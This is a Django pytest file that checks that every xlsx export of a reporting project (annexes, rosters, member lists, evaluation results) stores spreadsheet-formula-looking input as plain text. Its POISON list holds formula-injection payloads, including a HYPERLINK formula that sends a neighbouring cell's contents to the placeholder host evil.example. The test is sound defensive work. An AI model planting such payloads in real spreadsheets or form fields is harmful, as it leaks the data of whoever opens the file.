"""Text that looks like a formula stays text in every workbook the project writes.

Every text field the exports show (names, job titles, organization names, target items, posts and commitments,
Annex 5's 主要做法/存在问题/下一步打算, who filled it in, appraisal notes, an uploaded roster) is poisoned with values
a spreadsheet would run: a HYPERLINK that leaks a neighbouring cell, +SUM, -1+1, @cmd, a tab before “=”. Every export
is then fetched as a user would (each annex at each level, Annex 5, the consolidation, the roster's workbooks, the
new table exports) and read back: no cell is a formula, each poisoned value is there as a string cell, marked with the
quote prefix."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from evaluations.enums import AppraisalConclusion, PeriodKind, PeriodState, PublicationScope
from evaluations.models import DemocraticAppraisal, EvaluationPeriod, PeriodPublication
from machinery.xlsx import FORMULA_START
from organizations.enums import OrgKind
from organizations.models import Member, Organization
from organizations.services import organization_create
from posts import services as post_services
from posts.models import Commitment, Post
from reports.models import QuarterlyReport
from reports.services import quarterly_report_open, quarterly_report_submit, quarterly_report_update
from targets.models import AnnualPlan, TargetItem
from tests.organizations_fixtures import check, five_rows
from tests.reports_fixtures import YEAR, plan_with_items, posts_with_claims, rate

pytestmark = pytest.mark.django_db

POISON = ['=HYPERLINK("http://evil.example/?leak="&B2,"详情")', "+SUM(1,2)", "-1+1", "@cmd", "\t=1"]


def p(i: int) -> str:
    return POISON[i % len(POISON)]


@pytest.fixture
def poisoned(world):
    """Branch A's people, posts, plan, ratings, appraisal and notice, unit C's Annex 5 and five organizations not
    launched yet, every text field holding a poisoned value."""
    claims = posts_with_claims(world.school_a, 5, branch=world.branch_a)
    for i, claim in enumerate(claims):
        Member.objects.filter(pk=claim.member_id).update(name=p(i), job=p(i + 1), reserve_reason=p(i + 2))
        Post.objects.filter(pk=claim.post_id).update(name=p(i + 1), duties=p(i + 2))
        Commitment.objects.filter(claim=claim).update(content=p(i + 3))
    plan = plan_with_items(world.school_a, 5)
    AnnualPlan.objects.filter(pk=plan.pk).update(featured_work=p(0), theory_research=p(1), school_targets=p(2))
    for i, item in enumerate(TargetItem.objects.filter(plan=plan).order_by("pk")):
        TargetItem.objects.filter(pk=item.pk).update(
            content=p(i), indicator=p(i + 1), measures=p(i + 2), office=p(i + 3), responsible=p(i + 4)
        )
    for i in range(5):
        org = organization_create(parent=world.school_a, name=f"待推行{i}", kind=OrgKind.BRANCH)
        Organization.objects.filter(pk=org.pk).update(name=p(i), school_name=p(i + 1))

    members = list(Member.objects.filter(pk__in=[c.member_id for c in claims]))
    for member in members:
        rate(world.branch_a, member, kind=PeriodKind.Q1)
    period = EvaluationPeriod.objects.get(organization=world.branch_a, year=YEAR, kind=PeriodKind.Q1)
    EvaluationPeriod.objects.filter(pk=period.pk).update(state=PeriodState.CLOSED)
    PeriodPublication.objects.create(
        period=period, scope=PublicationScope.SCHOOL, show_scores=True, set_by=world.user("branch_a_secretary")
    )
    DemocraticAppraisal.objects.create(
        organization=world.branch_a, member=members[0], year=YEAR, conclusion=AppraisalConclusion.QUALIFIED,
        notes=p(4), by=world.user("branch_a_secretary"),
    )  # fmt: skip
    notice = post_services.notice_issue(
        organization=world.branch_a, by=world.user("branch_a_secretary"), title="通报", body="内容"
    )

    report = quarterly_report_open(organization=world.unit, year=YEAR, quarter=4, by=None)
    report = quarterly_report_update(
        report=report, by=None, expected_version=report.version,
        practices="做法", problems="问题", next_steps="打算", filled_by="林", contact_phone="0595-1234567",
    )  # fmt: skip
    report = quarterly_report_submit(report=report, by=None, expected_version=report.version)
    QuarterlyReport.objects.filter(pk=report.pk).update(
        practices=p(0), problems=p(1), next_steps=p(2), filled_by=p(3), contact_phone=p(4)
    )

    rows = five_rows()
    for i, row in enumerate(rows):
        row[1], row[4] = p(i), p(i + 1)  # 姓名, 现任职务
    rows[0][2] = "未知"  # 性别: an error, so the file is handed back
    roster = check(world, rows)
    return {"period": period, "notice": notice, "report": report, "roster": roster}


def exports(world, objects) -> list[tuple[str, str, str]]:
    """(what, role, url) of every workbook the project writes."""
    year = f"?year={YEAR}"
    out = [("annex1 " + o.name, "city_staff", reverse("reports:annex1_xlsx", args=[o.pk]) + year)
           for o in (world.school_a, world.county_a, world.city)]  # fmt: skip
    out += [("annex2 " + o.name, "city_staff", reverse("reports:annex2_xlsx", args=[o.pk]) + year)
            for o in (world.branch_a, world.school_a, world.county_a, world.city)]  # fmt: skip
    out += [
        ("annex5", "city_staff", reverse("reports:quarterly_xlsx", args=[objects["report"].pk])),
        ("consolidation", "city_staff", reverse("reports:consolidation_xlsx") + f"?year={YEAR}&quarter=4"),
        ("roster demo", "branch_a_secretary", reverse("organizations:roster_demo", args=[world.branch_a.pk])),
        ("roster errors", "branch_a_secretary",
         reverse("organizations:roster_import_errors", args=[objects["roster"].pk])),
        ("period results", "city_staff", reverse("evaluations:period_results_xlsx", args=[objects["period"].pk])),
        ("receipts", "city_staff", reverse("posts:notice_receipts_xlsx", args=[objects["notice"].pk])),
    ]  # fmt: skip
    for o in (world.branch_a, world.school_a, world.city):
        out += [
            ("members " + o.name, "city_staff", reverse("organizations:members_xlsx", args=[o.pk])),
            ("year end " + o.name, "city_staff", reverse("evaluations:year_end_xlsx", args=[o.pk, YEAR])),
        ]
    out += [("members (secretary)", "branch_a_secretary", reverse("organizations:members_xlsx", args=[world.branch_a.pk]))]
    out += [("coverage " + o.name, "city_staff", reverse("organizations:coverage_xlsx", args=[o.pk]))
            for o in (world.school_a, world.county_a, world.city)]  # fmt: skip
    return out


# the poisoned values each export shows in full: in the annex and Annex 5 header and footer blocks, a value follows
# its label (“一项特色工作：=HYPERLINK(…)”), so it is looked for inside the cell's text there
IN_FULL = {"annex1 甲校党委", "annex2", "annex5", "consolidation", "roster", "period results", "receipts", "members",
           "year end", "coverage"}  # fmt: skip


def test_no_export_holds_a_formula_and_every_poisoned_value_is_text(world, login, poisoned):
    walked = []
    for what, role, url in exports(world, poisoned):
        response = login(world.user(role)).get(url)
        assert response.status_code == 200, f"{what}: {response.status_code}"
        data = response.content
        for name in zipfile.ZipFile(io.BytesIO(data)).namelist():
            if name.startswith("xl/worksheets/"):
                xml = zipfile.ZipFile(io.BytesIO(data)).read(name)
                assert b"<f>" not in xml and b"<f " not in xml, f"{what}: a formula element in {name}"
        cells = [c for ws in load_workbook(io.BytesIO(data)).worksheets for row in ws.iter_rows() for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"], what
        texts = [c for c in cells if isinstance(c.value, str)]
        for c in texts:
            if c.value.startswith(FORMULA_START):
                assert c.data_type == "s" and c.quotePrefix, f"{what} {c.coordinate}: {c.value!r} not marked as text"
        if not any(what.startswith(k) for k in IN_FULL) or what in {"annex1 甲县委教育工委", "annex1 泉州市委教育工委"}:
            continue  # Annex 1 of a committee: no plan of its own
        values = {c.value for c in texts}
        # the roster's reader trims what it reads (a tab before “=1” included): the file handed back holds it trimmed
        wanted = [v.strip() for v in POISON] if what == "roster errors" else POISON
        missing = [v for v in wanted if v not in values and not any(v in t for t in values)]
        assert not missing, f"{what}: {missing} not found as text"
        whole = [v for v in POISON if v in values]
        assert whole, f"{what}: no poisoned value as a cell of its own"
        walked.append(what)
    assert len(walked) >= 20, walked
